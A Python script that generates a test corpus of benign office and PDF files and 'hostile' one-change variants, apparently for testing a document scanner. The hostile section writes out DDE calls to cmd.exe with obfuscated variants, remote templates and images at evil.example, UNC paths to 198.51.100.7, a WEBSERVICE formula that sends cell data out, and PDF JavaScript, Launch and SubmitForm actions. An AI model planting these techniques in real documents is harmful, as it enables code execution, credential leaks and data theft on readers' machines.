#!/usr/bin/env python3
"""Makes the files of honest/ and hostile/ anew: LibreOffice, XlsxWriter, openpyxl, python-docx, qpdf and pikepdf write the
honest ones; the hostile ones are those with one thing changed. by_hand.py then adds what no program
writes. The build does not run this; the files are kept."""
import io, os, re, shutil, subprocess, sys, tempfile, zipfile
import docx, openpyxl, pikepdf, xlsxwriter
from pikepdf import Array, Dictionary, Name, String

HERE = os.path.dirname(os.path.abspath(__file__))
HONEST, HOSTILE = os.path.join(HERE, 'honest'), os.path.join(HERE, 'hostile')
TMP = tempfile.mkdtemp()
for d in (HONEST, HOSTILE):
    shutil.rmtree(d, ignore_errors=True); os.makedirs(d)

def soffice(source, to, name):
    subprocess.run(['soffice', '-env:UserInstallation=file://' + TMP + '/profile', '--headless', '--convert-to', to,
                    '--outdir', TMP, source], check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    made = os.path.join(TMP, os.path.splitext(os.path.basename(source))[0] + '.' + to.split(':')[0])
    if name: shutil.copy(made, os.path.join(HONEST, name))
    return made

def parts(path):
    with zipfile.ZipFile(path) as z: return {n: z.read(n) for n in z.namelist()}

def pack(path, content):
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_DEFLATED) as z:
        if 'mimetype' in content: z.writestr(zipfile.ZipInfo('mimetype'), content['mimetype'])
        for n, b in content.items():
            if n != 'mimetype': z.writestr(n, b)

# ---------------------------------------------------------------- honest office files
os.chdir(TMP)
book = xlsxwriter.Workbook('base.xlsx'); sheet = book.add_worksheet('Gastos (2026)')
for row, line in enumerate([('Rubro', 'Costo (USD)'), ('Consultoría', 1000), ('Taller', 2500), ('Viajes', 700)]): sheet.write_row(row, 0, line)
sheet.write_formula('B5', '=SUM(B2:B4)'); sheet.write_formula('C2', '=IF(B2>0,VLOOKUP("Taller",A2:B4,2,FALSE),"|")')
sheet.write_dynamic_array_formula('D2:D4', '=_xlfn._xlws.SORT(B2:B4)'); sheet.write_url('A7', 'https://www.corett.org/presupuesto')
sheet.data_validation('E2', {'validate': 'list', 'source': ['Sí', 'No']}); sheet.write_comment('B2', 'Revisado')
sheet.conditional_format('B2:B4', {'type': 'cell', 'criteria': '>', 'value': 2000, 'format': book.add_format({'bold': True})})
sheet.add_table('G1:H4', {'columns': [{'header': 'Rubro'}, {'header': 'Costo (USD)'}]}); sheet.write_formula('I2', '=SUM(Table1[Costo (USD)])')
chart = book.add_chart({'type': 'column'}); chart.add_series({'categories': "='Gastos (2026)'!$A$2:$A$4", 'values': "='Gastos (2026)'!$B$2:$B$4"})
sheet.insert_chart('K2', chart); book.close()
shutil.copy('base.xlsx', HONEST + '/workbook-with-chart-xlsxwriter.xlsx')
wb = openpyxl.load_workbook('base.xlsx'); wb.save(HONEST + '/workbook-openpyxl.xlsx')
os.rename('base.xlsx', 'hoja.xlsx'); ods = soffice('hoja.xlsx', 'ods', 'workbook-with-chart-libreoffice.ods')
os.makedirs('lo', exist_ok=True); shutil.copy(ods, 'lo/libro.ods'); soffice('lo/libro.ods', 'xlsx', 'workbook-with-chart-libreoffice.xlsx')

d = docx.Document(); d.add_heading('Nota de concepto', 1); d.add_paragraph('Prevención de la trata.')
t = d.add_table(rows=2, cols=2); t.cell(0, 0).text = 'Actividad'; d.save(HONEST + '/note-python-docx.docx')

objects = {n: b for n, b in parts(ods).items() if re.match(r'Object 1/', n)}
NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
      'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
      'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
      'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" office:version="1.3"')
body = ('<text:h text:outline-level="1">Nota de concepto</text:h><text:p>Prevención de la trata: '
        '<text:a xlink:type="simple" xlink:href="https://www.corett.org/">sitio</text:a>, <text:a xlink:type="simple" xlink:href="mailto:secretaria@corett.example">correo</text:a>, '
        '<text:page-number>1</text:page-number> de <text:page-count>1</text:page-count></text:p>'
        '<text:p><draw:frame text:anchor-type="as-char" svg:width="8cm" svg:height="5cm"><draw:object xlink:href="./Object 1" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>')
raw = {'mimetype': b'application/vnd.oasis.opendocument.text',
       'content.xml': f'<office:document-content {NS}><office:body><office:text>{body}</office:text></office:body></office:document-content>'.encode(),
       'META-INF/manifest.xml': ('<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/><manifest:file-entry manifest:full-path="Object 1/" manifest:media-type="application/vnd.oasis.opendocument.chart"/>'
        + ''.join(f'<manifest:file-entry manifest:full-path="{n}" manifest:media-type="text/xml"/>' for n in objects if n.endswith('.xml')) + '</manifest:manifest>').encode(), **objects}
pack('nota.odt', raw)
soffice('nota.odt', 'docx', 'text-with-chart-libreoffice.docx')
os.makedirs('o', exist_ok=True); shutil.copy('nota.odt', 'o/texto.odt')
os.rename('nota.odt', 'n.odt'); odt = soffice(TMP + '/o/texto.odt', 'odt', 'text-with-chart-libreoffice.odt')
o = parts(odt); o['meta.xml'] = re.sub(rb'</office:meta>', b'<meta:template xlink:type="simple" xlink:actuate="onRequest" xlink:title="Carta" xlink:href="file:///C:/Users/Ana/AppData/Roaming/LibreOffice/4/user/template/carta.ott"/></office:meta>', o['meta.xml'])
pack('plantilla.odt', o); shutil.copy('plantilla.odt', HONEST + '/text-with-local-template.odt')
DOCX = HONEST + '/text-with-chart-libreoffice.docx'
REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/'

def template(content, target):
    c = dict(content); c['word/settings.xml'] = c['word/settings.xml'].replace(b'</w:settings>', b'<w:attachedTemplate r:id="rT"/></w:settings>', 1)
    if b'xmlns:r=' not in c['word/settings.xml']: c['word/settings.xml'] = c['word/settings.xml'].replace(b'<w:settings ', b'<w:settings xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ', 1)
    c['word/_rels/settings.xml.rels'] = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rT" Type="{REL}attachedTemplate" Target="{target}" TargetMode="External"/></Relationships>'.encode()
    return c

pack(HONEST + '/text-with-local-template.docx', template(parts(DOCX), 'file:///C:\\Users\\Ana\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm'))
pack(HONEST + '/text-with-template-beside.docx', template(parts(DOCX), 'Carta%20CORETT.dotx'))

def in_document(content, xml):
    c = dict(content); c['word/document.xml'] = re.sub(rb'(<w:body>)', lambda m: m.group(1) + xml.encode(), c['word/document.xml'], count=1); return c

def field(*instr):
    runs = ''.join(f'<w:r><w:instrText xml:space="preserve">{i}</w:instrText></w:r>' for i in instr)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'

pack(HONEST + '/text-with-fields.docx', in_document(parts(DOCX), field(' TOC \\o "1-3" \\h ') + field(' PAGE ') + field(' HYPER', 'LINK "https://www.corett.org/dde" ') + field(' ADDIN ZOTERO_ITEM CSL_CITATION {"id":1} ') + '<w:p><w:fldSimple w:instr=" DATE \\@ &quot;d/M/yyyy&quot; "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'))
u16 = parts(DOCX); u16['word/document.xml'] = u16['word/document.xml'].decode('utf-8').replace('UTF-8', 'UTF-16', 1).encode('utf-16'); pack(HONEST + '/text-in-utf-16.docx', u16)
fodp = f'<office:document {NS} office:mimetype="application/vnd.oasis.opendocument.presentation"><office:body><office:presentation><draw:page draw:name="1"><draw:frame svg:width="10cm" svg:height="3cm" svg:x="1cm" svg:y="1cm"><draw:text-box><text:p>Avance <text:a xlink:href="https://www.corett.org/">del plan</text:a></text:p></draw:text-box></draw:frame></draw:page></office:presentation></office:body></office:document>'
pack('avance.odp', {'mimetype': b'application/vnd.oasis.opendocument.presentation',
     'content.xml': fodp.replace('office:document ', 'office:document-content ').replace('/office:document>', '/office:document-content>').replace(' office:mimetype="application/vnd.oasis.opendocument.presentation"', '').encode(),
     'META-INF/manifest.xml': b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.presentation"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'})
soffice('avance.odp', 'pptx', 'slides-libreoffice.pptx')
PPTX, XLSX, ODT, ODS = HONEST + '/slides-libreoffice.pptx', HONEST + '/workbook-with-chart-xlsxwriter.xlsx', odt, ods

SHEET = '<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/>'
def rel(content, part, xml):
    c = dict(content); p = os.path.dirname(part) + '/_rels/' + os.path.basename(part) + '.rels'
    old = c.get(p, b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')
    c[p] = old.replace(b'</Relationships>', xml.encode() + b'</Relationships>'); return c
def typed(content, xml):
    c = dict(content); c['[Content_Types].xml'] = c['[Content_Types].xml'].replace(b'</Types>', xml.encode() + b'</Types>'); return c
def behind_chart(content, workbook):
    """As Word keeps the figures of a chart."""
    c = typed(rel({**content, 'word/embeddings/Hoja_de_Microsoft_Excel.xlsx': open(workbook, 'rb').read()}, 'word/charts/chart1.xml', f'<Relationship Id="rId1" Type="{REL}package" Target="../embeddings/Hoja_de_Microsoft_Excel.xlsx"/>'), SHEET)
    c['word/charts/chart1.xml'] = c['word/charts/chart1.xml'].replace(b'</c:chartSpace>', b'<c:externalData r:id="rId1"><c:autoUpdate val="0"/></c:externalData></c:chartSpace>'); return c
pack(HONEST + '/text-with-chart-and-its-workbook.docx', behind_chart(parts(DOCX), HONEST + '/workbook-openpyxl.xlsx'))

# ---------------------------------------------------------------- honest PDF
shutil.copy(odt, 'carta.odt'); pdf = soffice('carta.odt', 'pdf', 'letter-with-links-libreoffice.pdf')
q = lambda *a: subprocess.run(['qpdf', *a], check=True)
q('--encrypt', '', 'duenno', '256', '--', pdf, HONEST + '/owners-password-aes256.pdf')
q('--encrypt', '', 'duenno', '128', '--use-aes=y', '--modify=none', '--', pdf, HONEST + '/owners-password-aes128.pdf')
q('--allow-weak-crypto', '--encrypt', '', 'duenno', '128', '--use-aes=n', '--', pdf, HONEST + '/owners-password-rc4.pdf')
q('--object-streams=generate', '--encrypt', '', 'duenno', '256', '--', pdf, HONEST + '/owners-password-packed.pdf')
q('--object-streams=generate', pdf, HONEST + '/letter-packed.pdf'); q('--linearize', pdf, HONEST + '/letter-linearized.pdf')

def change(name, then, folder=HOSTILE, **save):
    with pikepdf.open(pdf) as p:
        then(p); p.save(os.path.join(folder, name), **save)

def link(action): return lambda p: p.pages[0].__setitem__('/Annots', p.make_indirect(Array([p.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 90, 90]), A=action))])))
def opens(action): return lambda p: p.Root.__setitem__('/OpenAction', action)
uri = lambda s: Dictionary(S=Name.URI, URI=String(s))
change('link-to-a-page-about-javascript.pdf', link(uri('https://developer.mozilla.org/docs/Web/JavaScript')), HONEST)
change('opens-at-its-second-part.pdf', lambda p: p.Root.__setitem__('/OpenAction', Dictionary(S=Name.GoTo, D=Array([p.pages[0].obj, Name.Fit]))), HONEST)

# ---------------------------------------------------------------- hostile PDF
evil = '\\\\\\\\198.51.100.7\\\\x'
change('opens-an-address.pdf', opens(uri('https://evil.example/')))
change('opens-an-address-when-shown.pdf', lambda p: p.pages[0].__setitem__('/AA', Dictionary(O=uri('https://evil.example/'))))
change('opens-an-address-in-an-annotation.pdf', lambda p: p.pages[0].__setitem__('/Annots', Array([p.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), AA=Dictionary(PV=uri('https://evil.example/'))))])))
change('goes-to-a-unc-path.pdf', opens(Dictionary(S=Name('/GoToR'), F=String('\\\\198.51.100.7\\x'), D=Array([0, Name.Fit]))))
change('goes-to-a-unc-path-by-a-specification.pdf', link(Dictionary(S=Name('/GoToR'), F=Dictionary(Type=Name.Filespec, UF=String('\\\\198.51.100.7\\x')), D=Array([0, Name.Fit]))))
change('link-to-a-unc-path.pdf', link(uri('file://198.51.100.7/x')))
change('link-that-starts-a-program.pdf', link(uri('file:///C:/Windows/System32/calc.exe')))
change('javascript-on-opening.pdf', opens(Dictionary(S=Name.JavaScript, JS=String('app.alert(1)'))))
change('javascript-packed.pdf', lambda p: p.Root.__setitem__('/OpenAction', p.make_indirect(Dictionary(S=Name.JavaScript, JS=String('1')))), object_stream_mode=pikepdf.ObjectStreamMode.generate)
change('javascript-enciphered.pdf', lambda p: p.Root.__setitem__('/OpenAction', p.make_indirect(Dictionary(S=Name.JavaScript, JS=String('1')))), object_stream_mode=pikepdf.ObjectStreamMode.generate, encryption=pikepdf.Encryption(owner='x', user='', R=6))
change('launches.pdf', opens(Dictionary(S=Name.Launch, F=String('cmd.exe'))))
change('launches-after-another-action.pdf', link(Dictionary(S=Name.GoTo, D=String('x'), Next=Array([Dictionary(S=Name.Launch, F=String('cmd.exe'))]))))
change('submits.pdf', opens(Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String('https://evil.example/')))))
change('xfa.pdf', lambda p: p.Root.__setitem__('/AcroForm', Dictionary(Fields=Array([]), XFA=p.make_stream(b'<xdp/>'))))
change('carries-a-file.pdf', lambda p: p.attachments.__setitem__('x.txt', pikepdf.AttachedFileSpec(p, b'x', filename='x.txt')))
def elsewhere(p):
    stream = p.make_stream(b' '); stream['/Z'] = String('\\\\198.51.100.7\\x'); p.Root['/Extra'] = stream
change('stream-in-another-file.pdf', elsewhere)
# qpdf writes no such stream.
plain = open(HOSTILE + '/stream-in-another-file.pdf', 'rb').read(); assert b'/Z (' in plain
open(HOSTILE + '/stream-in-another-file.pdf', 'wb').write(plain.replace(b'/Z (', b'/F (', 1))
change('prints-itself.pdf', opens(Dictionary(S=Name.Named, N=Name('/Print'))))
change('sound.pdf', lambda p: p.pages[0].__setitem__('/Annots', Array([p.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Movie, Rect=Array([0, 0, 9, 9])))])))

# ---------------------------------------------------------------- hostile office files
D, X, P, T, S = parts(DOCX), parts(XLSX), parts(PPTX), parts(ODT), parts(ODS)
def hostile(name, content): pack(os.path.join(HOSTILE, name), content)
OLE = b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1' + bytes(504)
hostile('template-elsewhere.docx', template(D, 'https://evil.example/t.dotm'))
t = template(D, 'https://evil.example/t.dotm'); t['word/_rels/settings.xml.rels'] = t['word/_rels/settings.xml.rels'].replace(b'"', b"'"); hostile('template-elsewhere-in-single-quotes.docx', t)
t = template(D, 'https://evil.example/t.dotm'); t['word/_rels/settings.xml.rels'] = t['word/_rels/settings.xml.rels'].replace(b'attachedTemplate', b'&#97;ttached&#x54;emplate'); hostile('template-elsewhere-in-numbers.docx', t)
t = template(D, 'https://evil.example/t.dotm'); t['word/_rels/settings.xml.rels'] = t['word/_rels/settings.xml.rels'].decode().encode('utf-16'); hostile('template-elsewhere-in-utf-16.docx', t)
hostile('template-on-a-unc-path.docx', template(D, 'file:///\\\\198.51.100.7\\x\\t.dotm'))
hostile('template-on-a-coded-unc-path.docx', template(D, 'file:///%5C%5C198.51.100.7/x/t.dotm'))
hostile('alternative-chunk.docx', typed(in_document(rel({**D, 'word/a.html': b'<html/>'}, 'word/document.xml', f'<Relationship Id="rA" Type="{REL}aFChunk" Target="a.html"/>'), '<w:altChunk r:id="rA"/>'), '<Default Extension="html" ContentType="text/html"/>'))
hostile('dde-field.docx', in_document(D, field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ')))
hostile('dde-field-in-pieces.docx', in_document(D, field(' D', 'DE', 'AUTO', ' cmd "/k calc" ')))
hostile('dde-field-in-numbers.docx', in_document(D, field(' &#68;&#x44;&#69; cmd "/k calc" ')))
hostile('dde-field-simple.docx', in_document(D, "<w:p><w:fldSimple w:instr=' DDE cmd &quot;/k calc&quot; '/></w:p>"))
nested = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' + field(' QUOTE 68 68 69 ').replace('<w:p>', '').replace('</w:p>', '') + '<w:r><w:instrText> cmd "/k calc" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
hostile('dde-field-written-by-a-field.docx', in_document(D, nested))
hostile('includes-a-picture.docx', in_document(D, field(' INCLUDEPICTURE "https://evil.example/x.png" \\d ')))
t = dict(D); t['word/document.xml'] = b'<!DOCTYPE w:document [<!ENTITY x "y">]>' + re.sub(rb'^<\?xml[^>]*\?>\s*', b'', t['word/document.xml']); hostile('document-type.docx', t)
hostile('picture-elsewhere.docx', rel(D, 'word/document.xml', f'<Relationship Id="rI" Type="{REL}image" Target="https://evil.example/x.png" TargetMode="External"/>'))
hostile('link-to-a-unc-path.docx', rel(D, 'word/document.xml', f'<Relationship Id="rH" Type="{REL}hyperlink" Target="file://198.51.100.7/x" TargetMode="External"/>'))
hostile('ole-object.docx', typed(rel({**D, 'word/embeddings/oleObject1.bin': OLE}, 'word/document.xml', f'<Relationship Id="rO" Type="{REL}oleObject" Target="embeddings/oleObject1.bin"/>'), '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'))
hostile('ole-object-as-a-picture.docx', typed(rel({**D, 'word/media/i.png': OLE}, 'word/document.xml', f'<Relationship Id="rO" Type="{REL}image" Target="media/i.png"/>'), '' if b'Extension="png"' in D['[Content_Types].xml'] else '<Default Extension="png" ContentType="image/png"/>'))
hostile('macros-renamed.docx', typed(rel({**D, 'word/numbers.xml': OLE}, 'word/document.xml', '<Relationship Id="rV" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="numbers.xml"/>'), '<Override PartName="/word/numbers.xml" ContentType="application/vnd.ms-office.vbaProject"/>'))
t = dict(D); t['[Content_Types].xml'] = re.sub(rb'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main', b"application/vnd.ms-word.document.macroEnabled.main", t['[Content_Types].xml']); hostile('macro-enabled-named-docx.docx', t)
t2 = parts(XLSX); t2['xl/vbaProject.bin'] = OLE; pack(TMP + '/m.xlsx', t2); hostile('macros-in-a-charts-workbook.docx', behind_chart(D, TMP + '/m.xlsx')); hostile('workbook-within.docx', typed(rel({**D, 'word/embeddings/w.xlsx': open(XLSX, 'rb').read()}, 'word/document.xml', f'<Relationship Id="rO" Type="{REL}package" Target="embeddings/w.xlsx"/>'), SHEET))
hostile('web-extension.docx', typed(rel({**D, 'word/we.xml': b'<x/>'}, 'word/document.xml', '<Relationship Id="rW" Type="http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes" Target="we.xml"/>'), ''))
sheet1 = 'xl/worksheets/sheet1.xml'
def formula(f): c = dict(X); c[sheet1] = c[sheet1].replace(b'<f>SUM(B2:B4)</f>', b'<f>' + f.encode() + b'</f>'); assert c[sheet1] != X[sheet1]; return c
hostile('asks-a-web-service.xlsx', formula('WEBSERVICE("https://evil.example/?"&amp;A1)'))
hostile('asks-a-web-service-in-numbers.xlsx', formula('_xlfn.&#87;EBSERVICE ("https://evil.example/")'))
hostile('dde-formula.xlsx', formula("cmd|'/c calc'!A0"))
hostile('external-workbook.xlsx', typed(rel({**X, 'xl/externalLinks/externalLink1.xml': b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'}, 'xl/workbook.xml', f'<Relationship Id="rX" Type="{REL}externalLink" Target="externalLinks/externalLink1.xml"/>'), '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>'))
hostile('connection.xlsx', typed(rel({**X, 'xl/connections.xml': b'<connections/>'}, 'xl/workbook.xml', f'<Relationship Id="rC" Type="{REL}connections" Target="connections.xml"/>'), '<Override PartName="/xl/connections.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/>'))
hostile('old-macro-sheet.xlsx', typed(rel({**X, 'xl/macrosheets/sheet1.xml': b'<x/>'}, 'xl/workbook.xml', '<Relationship Id="rM" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.xml"/>'), '<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'))
slide = 'ppt/slides/slide1.xml'
def act(xml): c = dict(P); c[slide] = re.sub(rb'<p:cNvPr [^>]*?/>|<p:cNvPr ([^>]*?)></p:cNvPr>', lambda m: m.group(0).replace(b'/>', b'>').replace(b'></p:cNvPr>', b'>') + xml.encode() + b'</p:cNvPr>', c[slide], count=1); assert c[slide] != P[slide]; return c
hostile('runs-a-program.pptx', act('<a:hlinkClick xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="' + REL[:-1] + '" r:id="" action="ppaction://program"/>'))
hostile('acts-when-hovered.pptx', rel(act('<a:hlinkMouseOver xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="' + REL[:-1] + '" r:id="rQ"/>'), slide, f'<Relationship Id="rQ" Type="{REL}hyperlink" Target="https://evil.example/" TargetMode="External"/>'))
def odf(base, part, old, new): c = dict(base); c[part] = c[part].replace(old.encode(), new.encode(), 1); assert c[part] != base[part], (part, old); return c
ctext = re.search(rb'<office:text[^>]*>', T['content.xml']).group(0).decode()
hostile('script-event.odt', odf(T, 'content.xml', ctext, ctext + '<office:event-listeners xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:x.y?language=Basic&amp;location=document"/></office:event-listeners>'))
hostile('basic.odt', {**T, 'Basic/Standard/script-lb.xml': b'<x/>'})
hostile('picture-elsewhere.odt', odf(T, 'content.xml', ctext, ctext + "<text:p><draw:frame><draw:image xlink:href='https://evil.example/x.png'/></draw:frame></text:p>"))
hostile('section-elsewhere.odt', odf(T, 'content.xml', ctext, ctext + '<text:section text:name="a"><text:section-source xlink:href="&#102;ile:////198.51.100.7/x.odt"/></text:section>'))
hostile('dde-section.odt', odf(T, 'content.xml', ctext, ctext + '<text:section text:name="a"><office:dde-source office:dde-application="cmd" office:dde-topic="/c" office:dde-item="x"/></text:section>'))
hostile('template-elsewhere.odt', odf(T, 'meta.xml', '</office:meta>', '<meta:template xlink:href="//198.51.100.7/t.ott"/></office:meta>'))
hostile('reloads.odt', odf(T, 'meta.xml', '</office:meta>', '<meta:auto-reload xlink:href="https://evil.example/" meta:delay="PT1S"/></office:meta>'))
hostile('ole-object.odt', {**T, 'Object 7': OLE})
hostile('document-type.odt', odf(T, 'styles.xml', '<office:document-styles', '<!DOCTYPE x SYSTEM "https://evil.example/x.dtd"><office:document-styles'))
f = re.search(rb'table:formula="of:=SUM[^"]*"', S['content.xml']).group(0).decode()
hostile('asks-a-web-service.ods', odf(S, 'content.xml', f, 'table:formula="of:=WEBSERVICE(&quot;https://evil.example/&quot;)"'))
hostile('dde.ods', odf(S, 'content.xml', f, 'table:formula="of:=DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;y&quot;)"'))
hostile('sheet-elsewhere.ods', odf(S, 'content.xml', f, "table:formula=\"of:=['https://evil.example/x.ods'#$Hoja.A1]\""))
shutil.rmtree(TMP)
print(len(os.listdir(HONEST)), 'honest', len(os.listdir(HOSTILE)), 'hostile')
